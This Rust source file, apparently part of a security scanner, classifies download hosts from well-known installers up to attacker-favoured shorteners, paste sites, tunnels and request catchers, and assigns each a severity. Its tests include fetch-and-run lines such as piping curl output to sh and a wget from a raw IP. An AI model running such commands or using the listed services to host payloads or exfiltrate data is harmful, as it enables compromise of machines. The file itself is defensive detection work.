//! Where a download comes from, graded: well-known installer hosts, code
//! hosts anyone can publish to, unknown hosts, and the places attacks
//! use (raw IP addresses, URL shorteners, paste and file-drop sites,
//! tunnels, dynamic DNS).

use std::sync::LazyLock;

use regex::bytes::Regex;

use crate::finding::Severity;

/// Official installers and vendors' download hosts (a host or any
/// subdomain of it).
const WELL_KNOWN: &[&str] = &[
    "rustup.rs",
    "docker.com",
    "brew.sh",
    "astral.sh",
    "bun.sh",
    "deno.land",
    "deno.com",
    "pnpm.io",
    "python-poetry.org",
    "pyenv.run",
    "nodesource.com",
    "nodejs.org",
    "ollama.com",
    "ollama.ai",
    "starship.rs",
    "tailscale.com",
    "helm.sh",
    "k3s.io",
    "nixos.org",
    "determinate.systems",
    "mise.run",
    "jdx.dev",
    "vector.dev",
    "sdkman.io",
    "volta.sh",
    "pixi.sh",
    "modular.com",
    "claude.ai",
    "anthropic.com",
    "openai.com",
    "opencode.ai",
    "fly.io",
    "vercel.com",
    "supabase.com",
    "cloudflare.com",
    "hashicorp.com",
    "terraform.io",
    "google.com",
    "googleapis.com",
    "cloud.google.com",
    "amazonaws.com",
    "aws.amazon.com",
    "microsoft.com",
    "aka.ms",
    "dot.net",
    "apple.com",
    "go.dev",
    "golang.org",
    "pypi.org",
    "pythonhosted.org",
    "npmjs.org",
    "npmjs.com",
    "yarnpkg.com",
    "sentry.io",
    "sentry.dev",
    "getsentry.com",
    "trunk.io",
    "railway.app",
    "railway.com",
    "render.com",
    "netlify.com",
    "heroku.com",
    "firebase.tools",
    "wasmtime.dev",
    "wasmer.io",
    "zed.dev",
    "encore.dev",
    "turso.tech",
    "tur.so",
    "temporal.io",
    "dagger.io",
    "pulumi.com",
    "kubernetes.io",
    "k8s.io",
    "min.io",
    "github.com/cli",
    "cli.github.com",
    "stripe.com",
    "mozilla.org",
    "rust-lang.org",
    "python.org",
    "julialang.org",
    "sh.rustup.rs",
    "install.julialang.org",
    "foundry.paradigm.xyz",
    "get.jetify.com",
    "jetify.com",
    "devbox.sh",
    "flox.dev",
    "uv.astral.sh",
    "gradle.org",
    "maven.apache.org",
    "apache.org",
    "kernel.org",
    "debian.org",
    "ubuntu.com",
    "fedoraproject.org",
    "alpinelinux.org",
    "archlinux.org",
    "hf.co",
    "huggingface.co",
    "digitalocean.com",
    "linode.com",
    "oracle.com",
    "ibm.com",
    "redhat.com",
    "elastic.co",
    "mongodb.com",
    "postgresql.org",
    "mysql.com",
    "redis.io",
    "grafana.com",
    "datadoghq.com",
    "newrelic.com",
    "snyk.io",
    "sonarsource.com",
    "atlassian.com",
    "slack.com",
    "figma.com",
    "linear.app",
    "notion.so",
    "expo.dev",
    "flutter.dev",
    "dart.dev",
    "ziglang.org",
    "crystal-lang.org",
    "haskell.org",
    "get-ghcup.haskell.org",
    "elixir-lang.org",
    "erlang.org",
    "ruby-lang.org",
    "rubygems.org",
    "php.net",
    "getcomposer.org",
    "swift.org",
    "kotlinlang.org",
    "playwright.dev",
    "cypress.io",
    "astro.build",
    "nextjs.org",
    "bunny.net",
    "fastly.com",
    "akamai.com",
    "posthog.com",
    "convex.dev",
    "neon.tech",
    "planetscale.com",
    "upstash.com",
    "clerk.com",
    "auth0.com",
    "okta.com",
    "twilio.com",
    "sendgrid.com",
    "resend.com",
    "raw.githubusercontent.com/homebrew",
    "raw.githubusercontent.com/nvm-sh",
    "mise.jdx.dev",
    "chezmoi.io",
    "chocolatey.org",
    "aspire.dev",
    "spring.io",
    "llvm.org",
    "atuin.sh",
    "fnm.vercel.app",
    "install.pulumi.com",
];

/// Hosts where anyone publishes code or files: a download from them is
/// only as good as the account behind it.
const CODE_HOSTS: &[&str] = &[
    "github.com",
    "githubusercontent.com",
    "gitlab.com",
    "bitbucket.org",
    "codeberg.org",
    "sourceforge.net",
    "gitee.com",
    "npmjs.io",
    "unpkg.com",
    "jsdelivr.net",
    "cdnjs.com",
    "gist.github.com",
    "gist.githubusercontent.com",
    "objects.githubusercontent.com",
];

/// URL shorteners, paste and file-drop sites, tunnels, dynamic DNS and
/// request catchers: where malware campaigns host and collect.
const ATTACKER_FAVOURED: &[&str] = &[
    "bit.ly",
    "tinyurl.com",
    "t.co",
    "goo.gl",
    "is.gd",
    "cutt.ly",
    "rebrand.ly",
    "ow.ly",
    "shorturl.at",
    "rb.gy",
    "tiny.cc",
    "buff.ly",
    "t.ly",
    "v.gd",
    "s.id",
    "pastebin.com",
    "paste.ee",
    "hastebin.com",
    "ghostbin.com",
    "rentry.co",
    "rentry.org",
    "dpaste.org",
    "dpaste.com",
    "termbin.com",
    "0x0.st",
    "transfer.sh",
    "glot.io",
    "controlc.com",
    "justpaste.it",
    "paste.rs",
    "ix.io",
    "sprunge.us",
    "mega.nz",
    "mediafire.com",
    "anonfiles.com",
    "file.io",
    "gofile.io",
    "catbox.moe",
    "cdn.discordapp.com",
    "dl.dropboxusercontent.com",
    "ngrok.io",
    "ngrok-free.app",
    "ngrok.app",
    "trycloudflare.com",
    "loca.lt",
    "serveo.net",
    "duckdns.org",
    "ddns.net",
    "hopto.org",
    "no-ip.com",
    "webhook.site",
    "requestbin.com",
    "pipedream.net",
    "interact.sh",
    "oast.fun",
    "oast.pro",
    "oast.live",
    "burpcollaborator.net",
    "temp.sh",
    "filebin.net",
    "pixeldrain.com",
];

/// Where a URL's host falls.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum HostKind {
    /// The local machine.
    Local,
    /// An official installer or vendor host.
    WellKnown,
    /// A code host anyone can publish to.
    CodeHost,
    /// A documentation placeholder (`example.com`, `example.org`,
    /// `example.net`): not a real download, but a copied command would
    /// fetch whatever answers there.
    Placeholder,
    /// A host of none of the lists (or a URL in a variable).
    Unknown,
    /// A raw IP address, shortener, paste or file-drop site, tunnel.
    AttackerFavoured,
}

impl HostKind {
    /// The severity of running what comes from this host.
    pub(crate) fn severity(self) -> Severity {
        match self {
            HostKind::Local | HostKind::WellKnown => Severity::Low,
            HostKind::CodeHost | HostKind::Placeholder => Severity::Medium,
            HostKind::Unknown => Severity::High,
            HostKind::AttackerFavoured => Severity::Critical,
        }
    }

    /// How a message names it.
    pub(crate) fn describe(self) -> &'static str {
        match self {
            HostKind::Local => "from this machine",
            HostKind::WellKnown => "from a well-known installer host",
            HostKind::CodeHost => "from a code host anyone can publish to",
            HostKind::Placeholder => "from a documentation placeholder host (example.com)",
            HostKind::Unknown => "from an unknown host",
            HostKind::AttackerFavoured => {
                "from a raw IP address, URL shortener, paste or file-drop site"
            }
        }
    }
}

static URL: LazyLock<Regex> = LazyLock::new(|| {
    // Fixed pattern, compiled once (tested).
    #[allow(clippy::expect_used)]
    Regex::new(r"(?i-u)\b(?:https?|ftp)://(?:[^/\s'\x22<>()@]*@)?(\[[0-9a-f:.]+\]|[a-z0-9._-]+)(/[^\s'\x22<>)]*)?")
        .expect("URL pattern")
});

static BARE_IP: LazyLock<Regex> = LazyLock::new(|| {
    #[allow(clippy::expect_used)]
    Regex::new(r"(?-u)\b(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})(?::\d+)?/").expect("IP pattern")
});

/// Every URL in `text`: (host, host and path) pairs, lowercased host.
pub(crate) fn urls(text: &[u8]) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = URL
        .captures_iter(text)
        .filter_map(|c| {
            let host = String::from_utf8_lossy(c.get(1)?.as_bytes()).to_ascii_lowercase();
            let path = c
                .get(2)
                .map(|p| String::from_utf8_lossy(p.as_bytes()).into_owned())
                .unwrap_or_default();
            Some((host.clone(), format!("{host}{}", path.to_ascii_lowercase())))
        })
        .collect();
    if out.is_empty() {
        out.extend(BARE_IP.captures_iter(text).filter_map(|c| {
            let host = String::from_utf8_lossy(c.get(1)?.as_bytes()).into_owned();
            Some((host.clone(), host))
        }));
    }
    out
}

/// The worst kind among the URLs of `text` (`Unknown` when it names none:
/// a URL from a variable is as unknown as it gets).
pub(crate) fn worst_host(text: &[u8]) -> HostKind {
    let urls = urls(text);
    if urls.is_empty() {
        return HostKind::Unknown;
    }
    urls.iter()
        .map(|(host, full)| classify(host, full))
        .max_by_key(|k| k.severity())
        .unwrap_or(HostKind::Unknown)
}

/// The kind of one host (`full`: host and path, for path-scoped entries
/// like `github.com/cli`).
pub(crate) fn classify(host: &str, full: &str) -> HostKind {
    let host = host.trim_end_matches('.');
    if host == "localhost" || host.starts_with("127.") || host == "[::1]" {
        return HostKind::Local;
    }
    if host.starts_with('[') || host.split('.').all(|p| p.parse::<u8>().is_ok()) {
        return HostKind::AttackerFavoured;
    }
    let under = |list: &[&str]| {
        list.iter().any(|entry| match entry.split_once('/') {
            Some(_) => full == *entry || full.starts_with(&format!("{entry}/")),
            None => host == *entry || host.ends_with(&format!(".{entry}")),
        })
    };
    if ["example.com", "example.org", "example.net"]
        .iter()
        .any(|p| host == *p || host.ends_with(&format!(".{p}")))
    {
        return HostKind::Placeholder;
    }
    if under(ATTACKER_FAVOURED) {
        HostKind::AttackerFavoured
    } else if under(WELL_KNOWN) {
        HostKind::WellKnown
    } else if under(CODE_HOSTS) {
        HostKind::CodeHost
    } else {
        HostKind::Unknown
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hosts_are_graded_from_well_known_to_attacker_favoured() {
        let cases = [
            ("curl https://sh.rustup.rs | sh", HostKind::WellKnown),
            (
                "curl -fsSL https://get.docker.com | sh",
                HostKind::WellKnown,
            ),
            (
                "https://raw.githubusercontent.com/x/y/main/i.sh",
                HostKind::CodeHost,
            ),
            ("https://github.com/cli/cli/releases", HostKind::WellKnown),
            ("http://example.invalid/i.sh", HostKind::Unknown),
            ("http://203.0.113.7/x.sh", HostKind::AttackerFavoured),
            ("wget 203.0.113.7/x.sh", HostKind::AttackerFavoured),
            ("https://bit.ly/3abc", HostKind::AttackerFavoured),
            ("https://glot.io/snippets/x/raw", HostKind::AttackerFavoured),
            ("http://localhost:8080/setup.sh", HostKind::Local),
            ("curl $URL | sh", HostKind::Unknown),
            (
                "curl https://example.com/install.sh | bash",
                HostKind::Placeholder,
            ),
            ("https://github.com/client-evil/x.sh", HostKind::CodeHost),
            (
                "https://evil-rustup.rs.example.invalid/x",
                HostKind::Unknown,
            ),
        ];
        for (text, want) in cases {
            assert_eq!(worst_host(text.as_bytes()), want, "{text}");
        }
    }
}
